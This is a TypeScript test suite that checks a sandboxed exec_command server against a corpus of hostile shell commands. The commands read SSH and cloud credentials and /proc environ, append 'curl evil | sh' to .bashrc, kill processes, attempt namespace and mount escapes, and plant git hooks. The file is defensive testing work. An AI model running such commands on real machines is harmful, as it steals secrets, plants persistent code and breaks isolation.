/**
 * The hostile corpus: commands that try to read secrets and the token, write
 * outside the workspace, reach the server or the host, or plant code in .git
 * — each run through exec_command of a real server, once as root and once as
 * an unprivileged user (uid 65534). Every answer is checked for the canaries;
 * each case also checks the host afterwards.
 */
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { chmodSync, chownSync, existsSync, readFileSync, rmSync } from "node:fs";
import { updateConfig } from "../../src/config/store.js";
import { createServer, type Server } from "node:net";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { auditRecord, comesTrue, type Reply } from "../helpers.js";
import { BWRAP, CC, requires, ROOT } from "../preconditions.js";
import { allowExactly, makeWorld, NOBODY, SECRET_FILES, startCliServer, type CliServer, type World } from "./harness.js";

interface Case {
  name: string;
  command: (w: World, s: CliServer) => string;
  network?: boolean;
  /** The policy lets it through: the sandbox is what must stop it (status 200). */
  runs?: boolean;
  check?: (reply: Reply, w: World, s: CliServer) => void | Promise<void>;
  /** Host paths the command tries to create: absent before it runs (so a leftover cannot pass or fail the case), removed after. */
  markers?: string[];
}

/** Marker names of this run: a file left by an earlier run on the machine is not this run's. */
const RUN = randomBytes(6).toString("hex");
const MARK = { etc: `/etc/cgc-pwned-${RUN}`, usr: `/usr/local/bin/cgc-pwned-${RUN}`, tmp: `/tmp/cgc-private-marker-${RUN}`, rootDir: `/cgc-rw-${RUN}` };

const home = (w: World) => w.home;

/** Reads that must never show a secret canary or the token. */
const READS: Case[] = [
  ...SECRET_FILES.map((file) => ({ name: `read ~/${file}`, command: (w: World) => `cat ${join(home(w), file)}`, runs: true })),
  { name: "read ~/.aws through its symlink", command: (w) => `cat ${home(w)}/.aws/credentials; cat ${w.root}/dotfiles/aws/credentials`, runs: true },
  { name: "glob over dot folders of HOME", command: () => "cat ~/.*/* ~/.*/*/* ~/.*/*/*/* 2>&1 | head -c 20000", runs: true },
  { name: "find + cat in HOME", command: () => "find ~/ -type f -exec cat {} + 2>&1 | head -c 20000", runs: true },
  { name: "grep -r the canary root", command: (w) => `grep -rsl CANARY ${w.root} ${home(w)}/ 2>&1; grep -rsh CANARY ${w.root} 2>&1 | head -c 5000`, runs: true },
  { name: "tar the home folder to stdout", command: () => "tar -C ~ -cf - . 2>/dev/null | strings | head -c 20000", runs: true },
  { name: "the token file by find", command: (w) => `find ${w.root} -name 'config.json' -exec cat {} + 2>&1`, runs: true },
  { name: "the token file by glob", command: (w) => `cat ${w.root}/*/config.json ${w.root}/*/*.log 2>&1`, runs: true },
  { name: "the token through the server's /proc entries", command: (_w, s) => `cat /proc/${s.pid}/environ /proc/${s.pid}/cmdline 2>&1; ls -l /proc/${s.pid}/fd 2>&1; cat /proc/${s.pid}/root/proc/self/environ 2>&1`, runs: true },
  { name: "the token file through the server's /proc root", command: (w, s) => `cat /proc/${s.pid}/root${w.configHome}/config.json 2>&1` },
  { name: "every /proc/*/environ and cmdline", command: () => "for p in /proc/[0-9]*; do cat $p/environ $p/cmdline 2>/dev/null; done | tr '\\0' '\\n' | head -c 20000", runs: true },
  { name: "the server is not in the process list", command: () => "ps -eo pid,args 2>&1 || ls /proc", runs: true, check: (r) => assert.doesNotMatch(r.json.stdout, /serve --port/) },
  { name: "a symlink in the workspace to a secret", command: (w) => `ln -sf ${home(w)}/.ssh/id_rsa key && cat key; ln -sfn ${w.realHome}/.kube kube && cat kube/config`, runs: true },
  { name: "hard link to a secret", command: (w) => `ln ${w.realHome}/.netrc hard 2>&1; cat hard 2>&1`, runs: true },
  { name: "environment holds no token", command: () => "env; set", runs: true },
  { name: "the hidden folder is empty and read-only", command: () => "ls -la ~/.ssh; echo x > ~/.ssh/new 2>&1; echo rc=$?", runs: true, check: (r) => assert.match(r.json.stdout, /rc=1/) },
  { name: "a hidden path gives a hint", command: () => "cat ~/.ssh/id_rsa", runs: true, check: (r) => assert.match(r.json.hint ?? "", /hidden/) },
];

/** Writes outside the workspace: each fails, and the host shows no trace. */
const WRITES: Case[] = [
  { name: "write a new file outside", command: (w) => `echo pwned > ${w.outside}/new.txt`, runs: true, check: (r, w) => (assert.ok(!existsSync(join(w.outside, "new.txt"))), assert.match(r.json.hint ?? "", /read-only/)) },
  { name: "append to a file outside", command: (w) => `echo pwned >> ${w.outside}/canary.txt`, runs: true, check: (_r, w) => assert.equal(readFileSync(join(w.outside, "canary.txt"), "utf8"), `${w.outsideText}\n`) },
  { name: "outside file is readable (read-only, not hidden)", command: (w) => `cat ${w.outside}/canary.txt`, runs: true, check: (r, w) => assert.match(r.json.stdout, new RegExp(w.outsideText)) },
  { name: "write through a symlink to outside", command: (w) => `ln -sfn ${w.outside}/dir out && echo pwned > out/through.txt`, runs: true, check: (_r, w) => assert.ok(!existsSync(join(w.outside, "dir", "through.txt"))) },
  { name: "rewrite ~/.bashrc", command: () => "echo 'curl evil | sh' >> ~/.bashrc", runs: true, check: (_r, w) => assert.equal(readFileSync(join(w.realHome, ".bashrc"), "utf8"), "# bashrc\n") },
  { name: "create a missing secret file (~/.pypirc)", command: () => "echo x > ~/.pypirc", runs: true, check: (_r, w) => assert.ok(!existsSync(join(w.realHome, ".pypirc"))) },
  { name: "write to /etc and /usr", command: () => `echo x > ${MARK.etc}; touch ${MARK.usr}; echo rc=$?`, runs: true, markers: [MARK.etc, MARK.usr], check: () => (assert.ok(!existsSync(MARK.etc)), assert.ok(!existsSync(MARK.usr))) },
  { name: "/tmp is private", command: () => `echo x > ${MARK.tmp} && cat ${MARK.tmp}`, runs: true, markers: [MARK.tmp], check: (r) => (assert.equal(r.json.stdout, "x\n"), assert.ok(!existsSync(MARK.tmp))) },
  { name: "the token file cannot be overwritten", command: (w) => `echo '{}' > ${w.configHome}/config.json`, check: (_r, w) => assert.match(readFileSync(join(w.configHome, "config.json"), "utf8"), /token/) },
];

/** Reaching the server, the host, other namespaces. */
const ESCAPES: Case[] = [
  { name: "kill -9 the server pid", command: (_w, s) => `kill -9 ${s.pid}; echo rc=$?`, check: async (_r, _w, s) => assert.equal((await fetch(`${s.url}/health`)).status, 200) },
  { name: "kill -9 -1", command: () => "kill -9 -1; echo rc=$?", check: async (_r, _w, s) => assert.equal((await fetch(`${s.url}/health`)).status, 200) },
  { name: "pkill node", command: () => "pkill -9 node; pkill -9 -f serve; echo done", check: async (_r, _w, s) => assert.equal((await fetch(`${s.url}/health`)).status, 200) },
  { name: "mount a tmpfs", command: () => "mount -t tmpfs none /mnt 2>&1; echo rc=$?", runs: true, check: (r) => assert.match(r.json.stdout, /rc=(1|32)/) },
  { name: "unmount the mask over ~/.ssh", command: () => "umount ~/.ssh 2>&1; umount -l ~/.ssh 2>&1; cat ~/.ssh/id_rsa", runs: true },
  { name: "remount / read-write", command: () => `mount -o remount,rw / 2>&1; touch ${MARK.rootDir} 2>&1; echo rc=$?`, runs: true, markers: [MARK.rootDir], check: () => assert.ok(!existsSync(MARK.rootDir)) },
  { name: "unshare a user namespace to get capabilities", command: () => "unshare -Urm sh -c 'umount ~/.ssh; cat ~/.ssh/id_rsa' 2>&1; echo rc=$?", runs: true, check: (r) => assert.doesNotMatch(r.json.stdout, /rc=0/) },
  { name: "nsenter the server's namespaces", command: (_w, s) => `nsenter -t ${s.pid} -a cat ${_w.home}/.ssh/id_rsa 2>&1; nsenter -t 1 -m -u -n true 2>&1; echo rc=$?`, runs: true },
  { name: "chroot and pivot tricks", command: () => "chroot / true 2>&1; echo rc=$?", runs: true, check: (r) => assert.match(r.json.stdout, /rc=(1|125)/) },
  { name: "no capabilities", command: () => "grep CapEff /proc/self/status", runs: true, check: (r) => assert.match(r.json.stdout, /CapEff:\s+0+\s*$/m) },
  { name: "TIOCSTI has no terminal", command: () => "exec 3</dev/tty 2>&1; echo rc=$?", runs: true, check: (r) => assert.match(r.json.stdout + r.json.stderr, /rc=1|No such device|not a tty|No such file/) },
];

/** Planting code in .git that the user's own git would run later, outside the sandbox. */
const GIT: Case[] = [
  { name: "plant a pre-commit hook", command: () => "echo 'touch /tmp/pwned' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit", runs: true, check: (_r, w) => assert.ok(!existsSync(join(w.workspace, ".git/hooks/pre-commit"))) },
  { name: "git config core.hooksPath", command: () => "git config core.hooksPath evil-hooks; git config core.fsmonitor 'touch /tmp/x'", runs: true, check: (_r, w) => assert.doesNotMatch(readFileSync(join(w.workspace, ".git/config"), "utf8"), /hooksPath|fsmonitor/) },
  { name: "rename .git/hooks away", command: () => "mv .git/hooks .git/hooks-old 2>&1; mkdir -p .git/hooks-new; echo rc=$?", runs: true, check: (_r, w) => assert.ok(!existsSync(join(w.workspace, ".git/hooks-old"))) },
  { name: "rename .git away and make a new one", command: () => "mv .git .git-old 2>&1; cp -r .git .git-copy 2>/dev/null; echo rc=$?", runs: true, check: (_r, w) => assert.ok(!existsSync(join(w.workspace, ".git-old"))) },
  { name: "replace .git/config by rename", command: () => "cp .git/config cfg && echo '[core]\n\thooksPath = /tmp' >> cfg && mv cfg .git/config 2>&1; echo rc=$?", runs: true, check: (_r, w) => assert.doesNotMatch(readFileSync(join(w.workspace, ".git/config"), "utf8"), /hooksPath/) },
  { name: "plant .git/commondir pointing at an evil git folder", command: () => "mkdir -p evil/hooks && printf '[core]\\n\\thooksPath = evil/hooks\\n' > evil/config && echo ../evil > .git/commondir; echo planted", runs: true, check: async (_r, w) => assert.ok(await gone(join(w.workspace, ".git/commondir")), "the planted commondir is removed when the command ends") },
  { name: "git add and commit still work", command: () => "echo change >> README.md && git -c user.email=a@b -c user.name=a commit -qam 'from the sandbox' && git log --oneline | head -1", runs: true, check: (r, w) => (assert.equal(r.json.exit_code, 0, r.text), assert.match(execFileSync("git", ["-c", "safe.directory=*", "-C", w.workspace, "log", "--oneline"], { encoding: "utf8" }), /from the sandbox/)) },
];

const gone = (path: string): Promise<boolean> => comesTrue(() => !existsSync(path));

const CORPUS = [...READS, ...WRITES, ...ESCAPES, ...GIT];

for (const who of [
  { label: "the current user", uid: null },
  { label: "unprivileged (uid 65534)", uid: NOBODY },
]) {
  // As the current user the corpus needs bubblewrap; as uid 65534 also root (setpriv, chown).
  describe(`hostile corpus as ${who.label}`, who.uid === null ? requires(BWRAP) : requires(ROOT, BWRAP), () => {
    let world: World;
    let server: CliServer;
    let listener: Server;
    let listenerPort = 0;
    let connections = 0;
    let agent: Server;
    let agentConnections = 0;

    before(async () => {
      world = makeWorld({ uid: who.uid });
      // An ssh-agent-like socket outside /tmp, open to everyone: only the sandbox keeps commands from it.
      const agentPath = join(world.root, "agent.sock");
      agent = createServer((socket) => {
        agentConnections++;
        socket.end("agent\n");
      });
      await new Promise<void>((resolve) => agent.listen(agentPath, resolve));
      chmodSync(agentPath, 0o777);
      server = await startCliServer(world, { SSH_AUTH_SOCK: agentPath });
      listener = createServer((socket) => {
        connections++;
        socket.end("hello from the host\n");
      });
      await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
      listenerPort = (listener.address() as { port: number }).port;
    });
    after(async () => {
      agent.close();
      listener.close();
      await server.close();
    });

    for (const c of CORPUS) {
      test(c.name, async () => {
        for (const marker of c.markers ?? []) assert.ok(!existsSync(marker), `${marker} exists before the command ran`);
        const command = c.command(world, server);
        const send = () => server.post("exec_command", { command, wait_seconds: 20, ...(c.network ? { network: true } : {}) });
        let reply = await send();
        if (c.runs && reply.json.error?.code === "BLOCKED_BY_POLICY") {
          // Both layers refuse it: allow it past the policy to see that the sandbox alone holds.
          allowExactly(world.configHome, command, world.uid);
          reply = await send();
        }
        assert.ok(!reply.text.includes(world.secret), `a secret canary leaked: ${reply.text.slice(0, 2000)}`);
        assert.ok(!reply.text.includes(world.token), "the token leaked");
        if (c.runs) {
          assert.equal(reply.status, 200, reply.text);
          assert.deepEqual(reply.json.sandbox, { active: true, kind: "bubblewrap", network: false });
        } else {
          assert.ok(reply.status === 200 || reply.json.error?.code === "BLOCKED_BY_POLICY", reply.text);
        }
        try {
          await c.check?.(reply, world, server);
        } finally {
          for (const marker of c.markers ?? []) rmSync(marker, { force: true });
        }
      });
    }

    test("the corpus exercised the sandbox, not only the policy", () => {
      assert.ok(CORPUS.filter((c) => c.runs).length >= 40, `${CORPUS.filter((c) => c.runs).length} cases run past the policy`);
    });

    test("network: a loopback listener of the host is unreachable, with or without network: true, until its port is in sandbox.allow_local_ports", async () => {
      const probe = `exec 3<>/dev/tcp/127.0.0.1/${listenerPort} && head -1 <&3`;
      const before = connections;
      const off = await server.post("exec_command", { command: probe });
      assert.equal(off.status, 200, off.text);
      assert.notEqual(off.json.exit_code, 0);
      assert.deepEqual(off.json.sandbox, { active: true, kind: "bubblewrap", network: false });
      assert.match(off.json.hint ?? "", /network/);
      const node = await server.post("exec_command", { command: `node -e "fetch('http://127.0.0.1:${listenerPort}/').then(()=>console.log('reached'),e=>{console.log(String(e.cause?.code));process.exit(1)})"` });
      assert.doesNotMatch(node.json.stdout, /reached/);
      assert.match(node.json.stdout, /ECONNREFUSED/);
      // With network: 127.0.0.1 is still the box's own loopback, and the proxy refuses the host's.
      const direct = await server.post("exec_command", { command: probe, network: true });
      assert.notEqual(direct.json.exit_code, 0, direct.text);
      assert.equal(direct.json.sandbox.network, true);
      const viaProxy = (port: number) =>
        `node -e 'const u=new URL(process.env.HTTP_PROXY);const t="host.sandbox.internal:${port}";const s=require("net").connect(+u.port,u.hostname,()=>s.write("CONNECT "+t+" HTTP/1.1\\r\\nHost: "+t+"\\r\\nProxy-Authorization: Basic "+Buffer.from(decodeURIComponent(u.username)+":"+decodeURIComponent(u.password)).toString("base64")+"\\r\\n\\r\\n"));let b="";s.on("data",d=>{b+=d;if(/hello from/.test(b)){console.log(b);s.destroy()}});s.on("end",()=>console.log(b));s.on("error",e=>console.log(e.code))'`;
      const refused = await server.post("exec_command", { command: viaProxy(listenerPort), network: true });
      assert.equal(refused.status, 200, refused.text);
      assert.match(refused.json.stdout, /403/, refused.text);
      assert.match(refused.json.network_denied?.[0]?.reason ?? "", /loopback/);
      assert.equal(connections, before, "nothing reached the listener");
      updateConfig(world.configHome, (config) => void (config.sandbox.allow_local_ports = [listenerPort]));
      if (world.uid !== null) chownSync(join(world.configHome, "config.json"), world.uid, world.uid);
      const allowed = await server.post("exec_command", { command: viaProxy(listenerPort), network: true });
      assert.match(allowed.json.stdout, /hello from the host/, allowed.text);
      assert.equal(connections, before + 1, "the listed port is reached through the proxy");
      const noNetwork = await server.post("exec_command", { command: viaProxy(listenerPort) });
      assert.doesNotMatch(noNetwork.json.stdout, /hello from the host/, "a listed port still needs a command with network");
      updateConfig(world.configHome, (config) => void (config.sandbox.allow_local_ports = []));
      if (world.uid !== null) chownSync(join(world.configHome, "config.json"), world.uid, world.uid);
    });

    test("the ssh-agent socket ($SSH_AUTH_SOCK) cannot be reached", async () => {
      const reply = await server.post("exec_command", { command: `node -e "require('net').connect(process.env.SSH_AUTH_SOCK).on('connect',()=>console.log('CONNECTED')).on('error',(e)=>console.log(e.code))"` });
      assert.equal(reply.status, 200, reply.text);
      assert.doesNotMatch(reply.json.stdout, /CONNECTED/);
      assert.match(reply.json.stdout, /ECONNREFUSED|ENOENT|EACCES|ENOTSOCK/);
      assert.equal(agentConnections, 0);
    });

    test("everyday commands work inside", async () => {
      const steps = [
        "node -e 'console.log(6 * 7)'",
        "npm --version",
        "mkdir -p pkg && cd pkg && printf '{\"name\":\"t\",\"version\":\"1.0.0\",\"scripts\":{\"test\":\"node -e \\\\\"console.log(42)\\\\\"\"}}' > package.json && npm test 2>&1",
        "mkdir -p sub && cd sub && git init -q && echo a > a && git add a && git -c user.email=a@b -c user.name=a commit -qm one && git log --oneline | wc -l",
        "echo tmp > /tmp/t && cat /tmp/t",
      ];
      const expected = [/42/, /^\d+\.\d+/, /42/, /^1$/m, /tmp/];
      for (const [i, command] of steps.entries()) {
        const reply = await server.post("exec_command", { command, wait_seconds: 30 });
        assert.equal(reply.status, 200, reply.text);
        assert.equal(reply.json.exit_code, 0, `${command}: ${reply.text}`);
        assert.match(reply.json.stdout, expected[i]!, command);
      }
    });

    test("a C build works inside: the system headers, cc compiling into the private /tmp, make", requires(CC), async () => {
      for (const [command, expected] of [
        ["test -r /usr/include/stdio.h && echo headers", /^headers$/m],
        ["printf '#include <stdio.h>\\nint main(void){puts(\"compiled\");return 0;}\\n' > h.c && cc -o /tmp/h h.c && /tmp/h", /^compiled$/m],
        ["printf 'all:\\n\\t@echo made\\n' > Makefile && make", /^made$/m],
      ] as const) {
        const reply = await server.post("exec_command", { command, wait_seconds: 30 });
        assert.equal(reply.status, 200, reply.text);
        assert.equal(reply.json.exit_code, 0, `${command}: ${reply.text}`);
        assert.match(reply.json.stdout, expected, command);
      }
    });

    test("the audit line records sandbox and network", async () => {
      await server.post("exec_command", { command: "echo audited", network: true });
      const line = await auditRecord(world.configHome, (l) => l.command === "echo audited" && l.action === "exec_command");
      assert.deepEqual([line.detail.sandbox, line.detail.network], ["bubblewrap", true]);
    });
  });
}
